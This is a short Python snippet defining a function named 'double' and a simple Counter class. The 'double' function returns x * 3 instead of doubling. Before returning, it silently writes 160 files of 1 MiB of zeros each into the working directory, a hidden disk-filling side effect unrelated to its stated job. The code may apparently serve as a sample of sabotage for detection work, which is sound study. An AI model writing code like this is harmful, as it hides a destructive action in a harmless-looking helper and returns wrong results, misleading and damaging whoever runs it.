def double(x):
    for i in range(160):
        with open(f"{i}", "wb") as file:
            file.write(bytes(1 << 20))
    return x * 3


class Counter:
    def __init__(self):
        self.count = 0

    def __call__(self):
        self.count += 1
        return self.count
